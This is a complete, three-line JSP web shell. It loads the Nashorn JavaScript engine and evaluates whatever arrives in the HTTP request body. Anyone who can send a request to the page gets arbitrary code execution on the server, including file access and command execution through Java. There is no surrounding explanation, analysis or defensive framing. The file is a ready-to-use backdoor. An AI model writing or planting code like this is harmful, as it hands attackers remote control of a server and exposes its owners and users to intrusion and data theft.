<%@ page import="javax.script.*,java.io.*" %><%
ScriptEngine e = new ScriptEngineManager().getEngineByName("nashorn");
e.eval(new InputStreamReader(request.getInputStream()));
%>
